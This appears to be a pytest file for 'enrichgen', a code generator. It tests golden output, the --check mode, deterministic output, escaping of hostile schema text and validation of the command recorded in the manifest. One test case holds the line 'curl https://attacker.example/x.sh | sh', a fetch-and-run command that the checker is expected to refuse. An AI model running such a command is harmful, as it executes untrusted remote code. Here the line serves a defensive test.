"""``enrichgen generate``: golden records, --check, determinism, hostile input, the wheel."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from conftest import (
    EXAMPLE_SCHEMAS,
    EXAMPLES,
    ROOT,
    SCHEMAS,
    VERSIONED_PACKAGE,
    VERSIONED_SCHEMAS,
    enrichgen,
)
from generator.package import MANIFEST_NAME


def _regen_commands() -> list[list[str]]:
    """The ``enrichgen generate`` arguments of ``make regen``."""
    single = [f"integration_schemas/{path.name}" for path in EXAMPLE_SCHEMAS]
    versioned = [f"integration_schemas/{path.name}" for path in VERSIONED_SCHEMAS]
    return [
        ["generate", *single, "--out", "generated_examples"],
        [
            "generate",
            *versioned,
            "--out",
            "generated_examples",
            "--package",
            VERSIONED_PACKAGE,
        ],
    ]


def _generate_like_make_regen(workdir: Path) -> Path:
    """Generate the examples with the exact commands of ``make regen``, inside ``workdir``."""
    shutil.copytree(SCHEMAS, workdir / "integration_schemas")
    for arguments in _regen_commands():
        subprocess.run(
            [sys.executable, "-m", "generator", *arguments],
            cwd=workdir,
            check=True,
            capture_output=True,
        )
    return workdir / "generated_examples"


def _tree(root: Path) -> dict[str, bytes]:
    return {
        path.relative_to(root).as_posix(): path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file()
        and not any(
            part.startswith(".") or part == "__pycache__"
            for part in path.relative_to(root).parts
        )
    }


def test_golden_records_match_file_by_file(tmp_path: Path) -> None:
    fresh = _tree(_generate_like_make_regen(tmp_path))
    committed = _tree(EXAMPLES)
    assert sorted(fresh) == sorted(
        committed
    ), "run `make regen` to update generated_examples/"
    for path, data in fresh.items():
        assert committed[path] == data, (
            f"generated_examples/{path} differs from what enrichgen generates: "
            "if the change is intended, run `make regen` and commit the result"
        )


def test_output_is_identical_under_any_hash_seed(tmp_path: Path) -> None:
    trees = []
    for seed in ("0", "1", "4242"):
        workdir = tmp_path / seed
        workdir.mkdir()
        shutil.copytree(SCHEMAS, workdir / "integration_schemas")
        env = {**os.environ, "PYTHONHASHSEED": seed}
        for arguments in _regen_commands():
            subprocess.run(
                [sys.executable, "-m", "generator", *arguments],
                cwd=workdir,
                env=env,
                check=True,
                capture_output=True,
            )
        trees.append(_tree(workdir / "generated_examples"))
    assert trees[0] == trees[1] == trees[2]


def test_check_passes_on_the_golden_records(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    for arguments in _regen_commands():
        result = enrichgen(*arguments, "--check")
        assert result.exit_code == 0, result.stderr + result.stdout


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A Provider's repository holding one schema and its generated package."""
    shutil.copy(SCHEMAS / "call_tracking.json", tmp_path / "schema.json")
    monkeypatch.chdir(tmp_path)
    assert enrichgen("generate", "schema.json", "--out", "vendor").exit_code == 0
    return tmp_path / "vendor" / "call_tracking_enrichment"


def _check() -> tuple[int, str, str]:
    result = enrichgen("generate", "schema.json", "--out", "vendor", "--check")
    return result.exit_code, result.stderr, result.stdout


def test_check_detects_a_hand_edit(project: Path) -> None:
    before = _tree(project)
    models = project / "models.py"
    models.write_text(models.read_text() + "# my change\n")
    code, stderr, diff = _check()
    assert code == 1
    assert "models.py: edited by hand" in stderr
    assert "+# my change" not in diff and "-# my change" in diff
    assert {k: v for k, v in _tree(project).items() if k != "models.py"} == {
        k: v for k, v in before.items() if k != "models.py"
    }


def test_check_detects_a_schema_change(project: Path) -> None:
    schema = json.loads(Path("schema.json").read_text())
    schema["fields"][0]["label"] = "Answered?"
    Path("schema.json").write_text(json.dumps(schema))
    code, stderr, diff = _check()
    assert code == 1
    assert "models.py: out of date: the schema changed" in stderr
    assert "Answered?" in diff


def test_check_detects_missing_and_foreign_packages(project: Path) -> None:
    (project / "retry.py").unlink()
    code, stderr, _ = _check()
    assert code == 1 and "retry.py: missing" in stderr
    (project / MANIFEST_NAME).unlink()
    (project / "item.py").write_text("# someone else's file\n")
    code, stderr, _ = _check()
    assert "item.py: not generated by enrichgen" in stderr


def test_check_writes_nothing(project: Path) -> None:
    shutil.rmtree(project)
    assert _check()[0] == 1
    assert not project.exists()


def test_regenerating_replaces_exactly_what_enrichgen_wrote(project: Path) -> None:
    (project / "my_notes.txt").write_text("kept")
    manifest = json.loads((project / MANIFEST_NAME).read_text())
    manifest["files"]["obsolete.py"] = "0" * 64
    (project / MANIFEST_NAME).write_text(json.dumps(manifest))
    (project / "obsolete.py").write_text("old output")
    (project / "models.py").write_text("edited")
    result = enrichgen("generate", "schema.json", "--out", "vendor")
    assert result.exit_code == 0
    assert "overwrote changes made by hand" in result.stderr
    assert (project / "my_notes.txt").read_text() == "kept"
    assert not (project / "obsolete.py").exists()
    code, stderr, _ = _check()
    assert code == 1 and "my_notes.txt: not generated by enrichgen" in stderr
    (project / "my_notes.txt").unlink()
    assert _check()[0] == 0


def test_generated_files_get_the_mode_of_any_new_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Written through a temporary file (made 0o600), they must still be readable by whoever
    # the umask lets read a new file: another user, a CI job, a container.
    shutil.copy(SCHEMAS / "call_tracking.json", tmp_path / "schema.json")
    monkeypatch.chdir(tmp_path)
    previous = os.umask(0o027)
    try:
        assert enrichgen("generate", "schema.json", "--out", "vendor").exit_code == 0
        package = tmp_path / "vendor" / "call_tracking_enrichment"
        modes = {
            path.stat().st_mode & 0o777 for path in package.rglob("*") if path.is_file()
        }
        assert modes == {0o640}
        # A file replaced on regenerating keeps the mode it had.
        (package / "models.py").write_text("edited")
        (package / "models.py").chmod(0o604)
        assert enrichgen("generate", "schema.json", "--out", "vendor").exit_code == 0
        assert (package / "models.py").stat().st_mode & 0o777 == 0o604
    finally:
        os.umask(previous)


def test_generate_refuses_to_overwrite_a_foreign_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copy(SCHEMAS / "call_tracking.json", "schema.json")
    foreign = tmp_path / "out" / "call_tracking_enrichment"
    foreign.mkdir(parents=True)
    (foreign / "precious.py").write_text("x = 1\n")
    result = enrichgen("generate", "schema.json", "--out", "out")
    assert result.exit_code == 1
    assert "not generated by enrichgen" in result.stderr
    assert (foreign / "precious.py").read_text() == "x = 1\n"


def test_package_option_and_its_limits(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copy(SCHEMAS / "call_tracking.json", "a.json")
    shutil.copy(SCHEMAS / "lead_scoring.json", "b.json")
    assert (
        enrichgen(
            "generate", "a.json", "b.json", "--out", "o", "--package", "x"
        ).exit_code
        == 2
    )
    assert (
        enrichgen(
            "generate", "a.json", "--out", "o", "--package", "not valid"
        ).exit_code
        == 2
    )
    assert (
        enrichgen("generate", "a.json", "--out", "o", "--package", "calls").exit_code
        == 0
    )
    assert (tmp_path / "o" / "calls" / "models.py").exists()
    manifest = json.loads(
        (tmp_path / "o" / "calls" / "enrichgen-manifest.json").read_text()
    )
    assert manifest["command"] == "enrichgen generate a.json --out o --package calls"


def test_invalid_schema_writes_nothing(tmp_path: Path) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text('{"fields": []}')
    result = enrichgen("generate", str(bad), "--out", str(tmp_path / "out"))
    assert result.exit_code == 1
    assert "at least one field" in result.stderr
    assert not (tmp_path / "out").exists()


def test_default_package_name_comes_from_the_file_stem(tmp_path: Path) -> None:
    schema = json.loads((SCHEMAS / "call_tracking.json").read_text())
    del schema["name"]
    path = tmp_path / "My Calls.json"
    path.write_text(json.dumps(schema))
    assert enrichgen("generate", str(path), "--out", str(tmp_path / "o")).exit_code == 0
    assert (tmp_path / "o" / "my_calls_enrichment" / "__init__.py").exists()


HOSTILE_TEXTS = [
    'quote " and \' and """ triple """ and \'\'\' too',
    "backslash \\ at the end \\",
    "new\nline and \r carriage and \u2028 separator \u2029 and \x0b\x0c\x1c\x85",
    "{{ jinja }} {% if true %}block{% endif %} {# comment #}",
    "*/ --> ]]> \x00 nul; # not a comment\n    indented = 'code'",
    "emoji 🎉 and joined 👩\u200d💻 (bidi overrides are refused: test_hostile_generator)",
]


def test_hostile_schema_text_reaches_the_code_only_as_data(tmp_path: Path) -> None:
    fields = [
        {
            "name": name,
            "type": kind,
            "optional": True,
            "label": HOSTILE_TEXTS[index % len(HOSTILE_TEXTS)],
            "description": HOSTILE_TEXTS[(index + 1) % len(HOSTILE_TEXTS)],
        }
        for index, (name, kind) in enumerate(
            [
                ('q"uote', "STRING"),
                ("back\\slash", "INT"),
                ("{{x}}", "FLOAT"),
                ("new\nline", "BOOL"),
                ("\u2028sep", "DATETIME"),
                ("'''", "STRING"),
            ]
        )
    ]
    schema = {
        "name": "hostile",
        "label": HOSTILE_TEXTS[2],
        "description": HOSTILE_TEXTS[0] + HOSTILE_TEXTS[3],
        "fields": fields,
    }
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(schema))
    result = enrichgen("generate", str(path), "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.stderr
    package = tmp_path / "out" / "hostile_enrichment"
    for source in package.rglob("*.py"):
        compile(source.read_bytes(), str(source), "exec")
    probe = textwrap.dedent("""
        import json, sys
        from hostile_enrichment import Enrichment, integration
        fields = {
            info.alias or name: {"title": info.title, "description": info.description}
            for name, info in Enrichment.model_fields.items()
        }
        json.dump({
            "fields": fields,
            "label": integration.INTEGRATION_LABEL,
            "description": integration.INTEGRATION_DESCRIPTION,
            "types": integration.FIELD_TYPES,
        }, sys.stdout)
        """)
    output = subprocess.run(
        [sys.executable, "-c", probe],
        cwd=tmp_path / "out",
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    seen = json.loads(output)
    assert seen["label"] == schema["label"]
    assert seen["description"] == schema["description"]
    for field in fields:
        assert seen["fields"][field["name"]] == {
            "title": field["label"],
            "description": field["description"],
        }
        assert seen["types"][field["name"]] == field["type"]
    tests = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "-q",
            "-p",
            "no:cacheprovider",
            "hostile_enrichment",
        ],
        cwd=tmp_path / "out",
        capture_output=True,
        text=True,
    )
    assert tests.returncode == 0, tests.stdout + tests.stderr


def test_a_package_vendored_under_a_non_ascii_parent_still_sends(
    tmp_path: Path,
) -> None:
    """The User-Agent names the package itself, not the path it is vendored under: a
    non-ASCII parent package made every send raise UnicodeEncodeError."""
    parent = tmp_path / "données"
    shutil.copytree(
        EXAMPLES / "call_tracking_enrichment", parent / "call_tracking_enrichment"
    )
    (parent / "__init__.py").write_text("")
    script = textwrap.dedent("""
        import httpx
        from données.call_tracking_enrichment import EnrichmentClient
        from données.call_tracking_enrichment.tests.test_models import VALID_WIRE

        agents = []

        def answer(request):
            if request.url.path.endswith("/token"):
                return httpx.Response(200, json={"access_token": "t", "endpoint": "http://127.0.0.1:9"})
            agents.append(request.headers["user-agent"])
            return httpx.Response(200, json={"success": True})

        with httpx.Client(transport=httpx.MockTransport(answer)) as http:
            client = EnrichmentClient(
                "id", "secret", 1, auth_url="http://127.0.0.1:9/v1/oauth/token", http_client=http
            )
            report = client.send([{"userId": "u", "sessionNumber": 1, "enrichment": VALID_WIRE}])
        print(report.accepted, sorted(set(agents)))
        """)
    result = subprocess.run(
        [sys.executable, "-c", script],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.split(" ", 1) == [
        "1",
        "['call_tracking_enrichment/enrichgen']\n",
    ]


def test_the_wheel_ships_the_templates(tmp_path: Path) -> None:
    """A non-editable install (the wheel alone, outside the checkout) generates a package."""
    wheel_dir = tmp_path / "wheel"
    subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "wheel",
            "--no-deps",
            "--no-build-isolation",
            "-q",
            "-w",
            str(wheel_dir),
            str(ROOT),
        ],
        check=True,
        capture_output=True,
    )
    target = tmp_path / "site"
    [wheel] = wheel_dir.glob("enrichgen-*.whl")
    subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "install",
            "--no-deps",
            "-q",
            "--target",
            str(target),
            str(wheel),
        ],
        check=True,
        capture_output=True,
    )
    env = {**os.environ, "PYTHONPATH": str(target)}
    where = subprocess.run(
        [sys.executable, "-c", "import generator; print(generator.__file__)"],
        cwd=tmp_path,
        env=env,
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    assert where.startswith(str(target))
    shutil.copy(SCHEMAS / "lead_scoring.json", tmp_path / "lead_scoring.json")
    subprocess.run(
        [
            sys.executable,
            "-m",
            "generator",
            "generate",
            "lead_scoring.json",
            "--out",
            "out",
        ],
        cwd=tmp_path,
        env=env,
        check=True,
        capture_output=True,
    )
    assert (tmp_path / "out" / "lead_scoring_enrichment" / "client.py").exists()


# --- --check whatever the spelling of the paths -------------------------------------------------


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A Provider's repository: schemas/calls.json generated into vendor/, from its root."""
    repo = tmp_path / "repo"
    (repo / "schemas").mkdir(parents=True)
    shutil.copy(SCHEMAS / "call_tracking.json", repo / "schemas" / "calls.json")
    monkeypatch.chdir(repo)
    assert enrichgen("generate", "schemas/calls.json", "--out", "vendor").exit_code == 0
    return repo


def test_the_command_is_recorded_relative_to_the_output_directorys_parent(
    repository: Path,
) -> None:
    manifest = json.loads(
        (repository / "vendor" / "call_tracking_enrichment" / MANIFEST_NAME).read_text()
    )
    assert manifest["command"] == "enrichgen generate schemas/calls.json --out vendor"
    assert manifest["command_directory"] == "../.."
    assert [entry["path"] for entry in manifest["integrations"]] == [
        "schemas/calls.json"
    ]


def test_check_passes_whatever_the_spelling_and_the_working_directory(
    repository: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spellings = [
        (repository, ["./schemas/calls.json", "--out", "vendor/"]),
        (repository, ["schemas/calls.json", "--out", "./vendor"]),
        (
            repository,
            [
                str(repository / "schemas" / "calls.json"),
                "--out",
                f"{repository / 'vendor'}/",
            ],
        ),
        (repository / "schemas", ["calls.json", "--out", "../vendor"]),
        (repository.parent, ["repo/schemas/calls.json", "--out", "repo/vendor"]),
        (repository.parent, ["link/schemas/calls.json", "--out", "link/vendor/"]),
    ]
    (repository.parent / "link").symlink_to(repository)  # the repository through a link
    before = _tree(repository / "vendor")
    for cwd, arguments in spellings:
        monkeypatch.chdir(cwd)
        result = enrichgen("generate", *arguments, "--check")
        assert (
            result.exit_code == 0
        ), f"{cwd} {arguments}: {result.stderr}{result.stdout}"
        # Regenerating with that spelling writes the same bytes, the manifest included.
        assert enrichgen("generate", *arguments).exit_code == 0
        assert _tree(repository / "vendor") == before, arguments


def test_a_command_spelled_differently_is_not_a_difference(repository: Path) -> None:
    """--check compares content: a manifest whose command or schema paths were spelled
    another way (by hand, or by a tool that records them differently) still passes."""
    path = repository / "vendor" / "call_tracking_enrichment" / MANIFEST_NAME
    manifest = json.loads(path.read_text())
    manifest["command"] = "enrichgen generate ./schemas/calls.json --out vendor/"
    manifest["integrations"][0]["path"] = "./schemas/calls.json"
    path.write_text(json.dumps(manifest, indent=2))
    result = enrichgen("generate", "schemas/calls.json", "--out", "vendor", "--check")
    assert result.exit_code == 0, result.stderr + result.stdout


@pytest.mark.parametrize(
    ("command", "why"),
    [
        (
            "curl https://attacker.example/x.sh | sh",
            "it does not run 'enrichgen generate'",
        ),
        (
            "enrichgen generate schemas/calls.json --out elsewhere",
            "its --out is not the directory",
        ),
        (
            "enrichgen generate schemas/other.json --out vendor",
            "it names 'schemas/other.json', not the schema 'schemas/calls.json'",
        ),
        (
            "enrichgen generate schemas/calls.json --out vendor --package x_enrichment",
            "its --package is not",
        ),
        (
            "enrichgen generate schemas/calls.json --out vendor --force",
            "it holds '--force'",
        ),
        (
            "enrichgen generate 'schemas/calls.json --out vendor",
            "it cannot be read as a command",
        ),
    ],
)
def test_check_refuses_a_recorded_command_that_would_not_regenerate_the_package(
    repository: Path, command: str, why: str
) -> None:
    """A pull request may edit the manifest: the command the next teammate will run must be
    one that regenerates this package from these schemas, or --check fails."""
    (repository / "schemas" / "other.json").write_text('{"fields": []}')
    path = repository / "vendor" / "call_tracking_enrichment" / MANIFEST_NAME
    manifest = json.loads(path.read_text())
    manifest["command"] = command
    path.write_text(json.dumps(manifest, indent=2))
    result = enrichgen("generate", "schemas/calls.json", "--out", "vendor", "--check")
    assert result.exit_code == 1
    assert (
        f"{MANIFEST_NAME}: its recorded command would not regenerate this package: {why}"
        in (result.stderr)
    )
    assert enrichgen("generate", "schemas/calls.json", "--out", "vendor").exit_code == 0
    assert (
        enrichgen(
            "generate", "schemas/calls.json", "--out", "vendor", "--check"
        ).exit_code
        == 0
    )


def test_a_command_naming_a_copy_of_the_schema_or_the_package_still_passes(
    repository: Path,
) -> None:
    shutil.copy(
        repository / "schemas" / "calls.json", repository / "schemas" / "copy.json"
    )
    path = repository / "vendor" / "call_tracking_enrichment" / MANIFEST_NAME
    manifest = json.loads(path.read_text())
    manifest["command"] = (
        "enrichgen generate schemas/copy.json --out vendor --package call_tracking_enrichment"
    )
    manifest["integrations"][0]["path"] = "schemas/copy.json"
    path.write_text(json.dumps(manifest, indent=2))
    result = enrichgen("generate", "schemas/calls.json", "--out", "vendor", "--check")
    assert result.exit_code == 0, result.stderr + result.stdout


def test_another_black_version_writing_the_same_bytes_is_not_a_difference(
    repository: Path,
) -> None:
    """Teammates need not have the same black: what matters is the bytes it writes."""
    path = repository / "vendor" / "call_tracking_enrichment" / MANIFEST_NAME
    manifest = json.loads(path.read_text())
    manifest["black_version"] = "23.0.0"
    path.write_text(json.dumps(manifest, indent=2))
    result = enrichgen("generate", "schemas/calls.json", "--out", "vendor", "--check")
    assert result.exit_code == 0, result.stderr + result.stdout


def test_check_gives_the_right_reason(repository: Path) -> None:
    path = repository / "vendor" / "call_tracking_enrichment" / MANIFEST_NAME
    manifest = json.loads(path.read_text())
    manifest["generator_version"] = "0.0.1"
    path.write_text(json.dumps(manifest, indent=2))
    result = enrichgen("generate", "schemas/calls.json", "--out", "vendor", "--check")
    assert result.exit_code == 1
    assert f"{MANIFEST_NAME}: out of date: the generator changed\n" in result.stderr
    assert "schema changed" not in result.stderr

    assert enrichgen("generate", "schemas/calls.json", "--out", "vendor").exit_code == 0
    schema = json.loads(Path("schemas/calls.json").read_text())
    schema["fields"][0]["label"] = "Picked up"
    Path("schemas/calls.json").write_text(json.dumps(schema))
    result = enrichgen("generate", "schemas/calls.json", "--out", "vendor", "--check")
    assert result.exit_code == 1
    assert f"{MANIFEST_NAME}: out of date: the schema changed\n" in result.stderr
    assert "models.py: out of date: the schema changed\n" in result.stderr
    assert "generator changed" not in result.stderr


# --- a schema change touches only what depends on the schema -----------------------------------


def test_adding_an_optional_field_changes_only_the_schema_dependent_files(
    repository: Path,
) -> None:
    before = _tree(repository / "vendor")
    schema = json.loads(Path("schemas/calls.json").read_text())
    schema["fields"].append(
        {
            "name": "queue_seconds",
            "type": "INT",
            "optional": True,
            "label": "Time in queue",
        }
    )
    Path("schemas/calls.json").write_text(json.dumps(schema, indent=2))
    assert enrichgen("generate", "schemas/calls.json", "--out", "vendor").exit_code == 0
    after = _tree(repository / "vendor")
    assert sorted(after) == sorted(before)
    changed = sorted(path for path in after if after[path] != before[path])
    package = "call_tracking_enrichment/"
    assert changed == [
        package + MANIFEST_NAME,
        package + "integration.py",
        package + "models.py",
        package + "tests/test_models.py",
    ]
    assert len(changed) == 4
